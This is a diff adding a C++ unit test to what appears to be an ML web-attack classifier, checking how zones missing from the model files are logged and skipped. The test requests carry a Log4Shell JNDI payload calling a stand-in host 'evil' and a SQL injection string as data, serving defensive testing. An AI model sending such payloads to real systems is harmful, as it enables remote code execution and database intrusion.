@@ -309,6 +309,63 @@ TEST_F(ClassifyFlow, ModelsAreReadOnceUntilTheirFilesChange) {
   EXPECT_EQ(cc.models->loads(), 3u);
 }
 
+// A zone the model files leave out on purpose is not judged: no error per
+// request, one warning per load. A zone missing from a pair that does not
+// agree it was left out is an error for every request that meets it.
+TEST_F(ClassifyFlow, ZoneLeftOutOfTheModels) {
+  const std::string missing_line = "error/ml: An error occurred while processing request r{} (shop.test) by behavioral "
+                                   "model in zone REFERER: 'referer'";
+  const std::string warning =
+      "warn/ml: The models of virtual host shop.test hold no behavioral model for zone REFERER (no normal values to "
+      "learn from): its values are not judged";
+  struct Case {
+    const char* name;
+    testing::ModelGaps gaps;
+    bool left_out;
+  } cases[] = {
+      {"left out by both files", {{"referer"}, {"referer"}, {"referer"}}, true},
+      {"older files without the zone", {{"referer"}, {}, {}}, false},
+      {"only the forests say so", {{"referer"}, {"referer"}, {}}, false},
+      {"only the vectorisers say so", {{"referer"}, {}, {"referer"}}, false},
+  };
+  for (const Case& c : cases) {
+    SCOPED_TRACE(c.name);
+    testing::write_models(dir.str(), "shop.test", c.gaps);
+    ClassifyContext cc = ctx();
+    // The attack value in the zone is never judged; the one in "args" is.
+    const RequestTable batch = {request("r1", "shop.test", {{"args", "id=15"}, {"referer", "${jndi:ldap://evil/a}"}}),
+                                request("r2", "shop.test", {{"args", "id=15"}}),
+                                request("r3", "shop.test", {{"args", "' or 1=1 --"}, {"referer", "' or 1=1 --"}})};
+    for (int round = 0; round < 2; ++round) ml_preprocessing(nullptr, batch, {}, hosts({"shop.test"}), cc);
+    EXPECT_EQ(cc.models->loads(), 1u);
+    lines = logs.take();
+    const auto count = [&](const std::string& line) { return std::count(lines.begin(), lines.end(), line); };
+    auto tables = cc.ctx.queues.q_mt_api->drain();
+    ASSERT_EQ(tables.size(), 2u);
+    for (const auto& t : tables) {
+      ASSERT_EQ(t.size(), 1u);
+      EXPECT_EQ(t[0].request_id, "r3");
+      EXPECT_EQ(t[0].mz, "args");
+    }
+    for (const char* id : {"1", "2", "3"}) {
+      std::string line = missing_line;
+      line.replace(line.find("{}"), 2, id);
+      EXPECT_EQ(count(line), c.left_out ? 0 : 2) << id;
+    }
+    EXPECT_EQ(count(warning), c.left_out ? 1 : 0) << ::testing::PrintToString(lines);
+    if (c.left_out) {
+      EXPECT_EQ(std::count_if(lines.begin(), lines.end(), [](const std::string& l) { return l.starts_with("error/"); }),
+                0)
+          << ::testing::PrintToString(lines);
+      // A new load warns again.
+      testing::write_models(dir.str(), "shop.test", c.gaps);
+      ml_preprocessing(nullptr, batch, {}, hosts({"shop.test"}), cc);
+      lines = logs.take();
+      EXPECT_EQ(count(warning), 1);
+    }
+  }
+}
+
 // Labels kept for known values are those the models give.
 TEST_F(ClassifyFlow, PredictionCacheGivesTheModelsLabels) {
   ClassifyContext cc = ctx();
